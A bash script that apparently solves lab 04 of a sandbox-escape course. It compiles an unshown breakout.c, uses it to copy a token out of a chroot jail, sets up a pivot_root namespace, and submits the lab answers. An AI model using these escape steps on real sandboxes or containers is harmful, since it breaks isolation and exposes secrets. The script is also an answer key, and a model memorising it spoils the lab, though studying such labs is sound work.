#!/bin/bash
# One way through lab 04. Run it as root in the lab's directory.
set -euo pipefail

wait_for_file() {
    for _ in {1..200}; do
        [ ! -e "$1" ] || return 0
        sleep 0.1
    done
    return 1
}
export HERE=$PWD
rm -f jail/loot jail/ready
gcc -static -o jail/compiled breakout.c
mv jail/compiled jail/breakout # also where the old one is running

# Out of a chroot. The shell waits, so that the program's parent is in the jail.
# shellcheck disable=SC2016 # the jail's shell is the one that knows
setsid chroot jail /bin/sh -c '/breakout cp "$HERE/token" "$HERE/jail/loot"; /breakout sleep 4401 & wait' &
wait_for_file jail/loot
for _ in {1..20}; do
    ! minirun lab check 04 | grep --quiet '^done *escaped' || break
done

# Behind a pivot_root.
setsid unshare --mount bash -c '
    mount --bind jail jail
    cd jail
    pivot_root . old
    exec /bin/sh -c "cd /; umount -l /old; touch /ready; /breakout sleep 4403 & wait"' &
wait_for_file jail/ready

minirun lab answer 04 itself EBUSY
minirun lab answer 04 way /proc/1/root
